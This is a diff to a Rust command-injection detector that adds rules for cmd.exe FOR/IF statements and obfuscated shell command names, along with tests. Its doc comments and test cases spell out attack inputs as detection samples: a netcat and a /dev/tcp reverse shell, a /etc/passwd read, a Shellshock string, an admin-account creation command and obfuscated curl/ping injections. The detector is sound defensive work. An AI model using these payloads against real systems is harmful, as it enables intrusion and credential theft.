@@ -29,7 +29,8 @@
 //! - **Medium** (recommended) adds: a score of 5 (`;id`, `|ls`, `&sleep 5`), which includes a whole value that is a
 //!   command line on its own (`cat /etc/passwd`, `nc -lvp 4444 -e /bin/sh`, `ipconfig /all`, `sleep 5`), a whole
 //!   value that is a reconnaissance command alone (`whoami`, `systeminfo`, `pwd`), calls of functions that run commands or code
-//!   (`system(…)`, `shell_exec(…)`, `eval(…)`, `phpinfo()`), `<?php`, and PHP's `${@…}` / `{${…}}`.
+//!   (`system(…)`, `shell_exec(…)`, `eval(…)`, `phpinfo()`), `<?php`, PHP's `${@…}` / `{${…}}`, and cmd.exe
+//!   statements: `FOR %x IN (…) DO …` loops and `IF EXIST|DEFINED|ERRORLEVEL|a==b …` tests followed by a command.
 //! - **High** adds: a score of 4 (`; cat`, `| more`, `& dir`, `ls` alone).
 //!
 //! Prose stays clean at every level because a command needs a lead and an argument that only a shell would take:
@@ -108,6 +109,7 @@ fn scan(cased: &[u8], lower: &[u8], need: u8) -> bool {
             b'(' if next == b')' && shellshock(text, i + 2) => LOW,
             b'\\' if next == b'n' || next == b'r' => candidate(cased, text, i + 2, Lead::Chain),
             b'/' if has_at(text, i, b"/dev/tcp/") || has_at(text, i, b"/dev/udp/") => LOW,
+            b'f' | b'i' if (i == 0 || !is_word(lc(text, i - 1))) && batch(text, i) => MEDIUM,
             b'a'..=b'z' if i == 0 || !is_word(lc(text, i - 1)) => code_call(cased, text, i),
             _ => 0,
         };
@@ -130,6 +132,87 @@ fn dollar(cased: &[u8], text: &[u8], i: usize) -> u8 {
     }
 }
 
+/// How far a cmd.exe `FOR` or `IF` statement is read.
+const BATCH_WINDOW: usize = 200;
+
+/// A cmd.exe `FOR %x IN (…) DO …` loop or an `IF EXIST|DEFINED|ERRORLEVEL|a==b … command` test at `i`.
+fn batch(text: &[u8], i: usize) -> bool {
+    let end = text.len().min(i + BATCH_WINDOW);
+    let window = text.get(i..end).unwrap_or_default();
+    if has_at(window, 0, b"for") && matches!(lc(window, 3), b' ' | b'\t') {
+        // A loop variable (`%G`, `%%G`) right before `IN (set)`, then `DO`.
+        let Some(mut var) = find(window, 4, b"%") else {
+            return false;
+        };
+        if lc(window, var + 1) == b'%' {
+            var += 1;
+        }
+        let name = lc(window, var + 1);
+        if matches!(name, 0 | b' ' | b'\t') || !matches!(lc(window, var + 2), b' ' | b'\t') {
+            return false;
+        }
+        let Some(at) = skip_blanks(window, var + 2) else {
+            return false;
+        };
+        if !has_at(window, at, b"in") || is_word(lc(window, at + 2)) {
+            return false;
+        }
+        let Some(open) = skip_blanks(window, at + 2) else {
+            return false;
+        };
+        if lc(window, open) != b'(' {
+            return false;
+        }
+        return find(window, open, b")").and_then(|close| find_word(window, close + 1, b"do")).is_some();
+    }
+    if has_at(window, 0, b"if") && matches!(lc(window, 2), b' ' | b'\t') {
+        let mut j = skip_blanks(window, 3).unwrap_or(window.len());
+        for prefix in [&b"/i"[..], b"not"] {
+            if has_at(window, j, prefix) && matches!(lc(window, j + prefix.len()), b' ' | b'\t') {
+                j = skip_blanks(window, j + prefix.len()).unwrap_or(window.len());
+            }
+        }
+        let keyword = [&b"exist"[..], b"defined", b"errorlevel", b"cmdextversion"]
+            .iter()
+            .any(|k| has_at(window, j, k) && matches!(lc(window, j + k.len()), b' ' | b'\t'));
+        let compare = find(window, j, b"==").is_some()
+            || [&b"equ"[..], b"neq", b"lss", b"leq", b"gtr", b"geq"]
+                .iter()
+                .any(|op| find_word(window, j, op).is_some());
+        let action = [&b"echo"[..], b"goto", b"cmd", b"call", b"set", b"del", b"start", b"exit", b"("]
+            .iter()
+            .any(|a| if *a == b"(" { find(window, j, a).is_some() } else { find_word(window, j, a).is_some() });
+        return (keyword || compare) && action;
+    }
+    false
+}
+
+/// The first `needle` in `hay` at or after `from`.
+fn find(hay: &[u8], from: usize, needle: &[u8]) -> Option<usize> {
+    let rest = hay.get(from..)?;
+    rest.windows(needle.len()).position(|w| w.eq_ignore_ascii_case(needle)).map(|p| p + from)
+}
+
+/// The first `word` in `hay` at or after `from` that stands alone (not inside a longer word).
+fn find_word(hay: &[u8], mut from: usize, word: &[u8]) -> Option<usize> {
+    while let Some(at) = find(hay, from, word) {
+        let before = at == 0 || !is_word(lc(hay, at - 1));
+        if before && !is_word(lc(hay, at + word.len())) {
+            return Some(at);
+        }
+        from = at + 1;
+    }
+    None
+}
+
+/// The first byte at or after `i` that is not a blank, if any.
+fn skip_blanks(text: &[u8], mut i: usize) -> Option<usize> {
+    while matches!(lc(text, i), b' ' | b'\t') {
+        i += 1;
+    }
+    (i < text.len()).then_some(i)
+}
+
 /// `() {` at the start of a Shellshock function definition (`i` is just after `()`).
 fn shellshock(text: &[u8], mut i: usize) -> bool {
     while lc(text, i) == b' ' {
@@ -139,7 +222,11 @@ fn shellshock(text: &[u8], mut i: usize) -> bool {
 }
 
 /// A brace list `{cmd,arg,…}` (bash runs it as `cmd arg`), `i` just after the `{`.
-fn brace(cased: &[u8], text: &[u8], i: usize) -> u8 {
+fn brace(cased: &[u8], text: &[u8], mut i: usize) -> u8 {
+    // `{,ifconfig}`: an empty first word is dropped.
+    if lc(text, i) == b',' {
+        i += 1;
+    }
     let Some((strength, _, end)) = command_at(cased, text, i) else {
         return 0;
     };
@@ -274,6 +361,12 @@ fn command_at(cased: &[u8], text: &[u8], i: usize) -> Option<(u8, u8, usize)> {
             // Quotes inside a name vanish (`c'a't`); `$@`, `$*` and `$1` expand to nothing; `^` escapes in cmd.exe.
             b'\'' | b'"' if len > 0 && is_word(next) => 1,
             b'$' if matches!(next, b'@' | b'*' | b'0'..=b'9') => 2,
+            // `$()` and `${x}` expand to nothing inside a name (`pi$()ng`, `c${u}url`).
+            b'$' if next == b'(' && lc(text, j + 2) == b')' => 3,
+            b'$' if next == b'{' => match (j + 2..j + 18).find(|&k| lc(text, k) == b'}') {
+                Some(close) if (j + 2..close).all(|k| is_word(lc(text, k))) => close + 1 - j,
+                _ => break,
+            },
             b'^' if is_word(next) => 1,
             _ => break,
         };
@@ -369,6 +462,20 @@ fn argument(text: &[u8], mut i: usize, flags: u8) -> u8 {
         b'a'..=b'z' if url_scheme(text, i) => 3,
         b'0'..=b'9' => number(text, i, flags),
         b'*' => 2,
+        b'a'..=b'z' => runs_command(text, i),
+        _ => 0,
+    }
+}
+
+/// 2 when the word at `i` is itself a command that is not an English word (`time ifconfig`, `sudo nc`).
+fn runs_command(text: &[u8], i: usize) -> u8 {
+    let mut j = i;
+    while (is_word(lc(text, j)) || lc(text, j) == b'-') && j - i < 24 {
+        j += 1;
+    }
+    let word = text.get(i..j).unwrap_or_default();
+    match lexicon::command(word) {
+        Some(flags) if flags & cmd::STRENGTH >= 2 && !is_word(lc(text, j)) => 2,
         _ => 0,
     }
 }
@@ -484,6 +591,9 @@ mod tests {
             "|w\\hoami",
             "|wh$@oami",
             "|who^ami",
+            ";pi$()ng -c 1 10.0.0.1",
+            ";c${u}url http://10.0.0.1/x",
+            "{,ifconfig,-a}",
             "() { :;}; echo vulnerable",
             "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
             "<!--#exec cmd=\"ls\"-->",
@@ -509,6 +619,14 @@ mod tests {
             "sleep 5",
             "; net user admin P4ss /add",
             "reg add HKLM\\Software\\x /f",
+        ] {
+            assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
+        }
+        for attack in [
+            "FOR /F \"tokens=*\" %G IN ('dir /b') DO echo %G",
+            "x & for %a in (a,b) do cmd",
+            "IF EXIST C:\\pagefile.sys (CMD)",
+            "if %ERRORLEVEL% NEQ 0 echo failed",
         ] {
             assert_eq!(lowest(attack), Some(Sensitivity::Medium), "{attack}");
         }
@@ -546,6 +664,9 @@ mod tests {
             "2024-01-01T10:00:00Z",
             "Tom & Jerry; Cat lovers",
             "Terms & Conditions; more info",
+            "for 100% of users in (most) cases we do well",
+            "if red equals red then echo it",
+            "If it exists, call me",
             "the net effect",
         ] {
             assert_eq!(lowest(benign), None, "{benign}");
